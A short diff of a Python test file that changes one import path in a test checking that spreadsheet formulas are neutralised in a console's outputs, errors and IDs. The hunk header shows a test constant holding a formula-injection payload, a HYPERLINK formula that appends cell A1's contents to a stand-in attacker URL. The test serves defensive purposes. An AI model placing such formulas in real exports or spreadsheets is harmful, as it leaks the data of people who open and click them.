@@ -13,7 +13,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def test_it_neutralises_formulas_in_outputs_errors_and_ids(viewer_client):
-    from console.analysis.models import RequestResult
+    from console.results.models import RequestResult
     from tests.support.synthetic import experiment_synthesize
 
     experiment = experiment_synthesize(n_requests=8, ks=(2,), loads="1x", repeats=1)
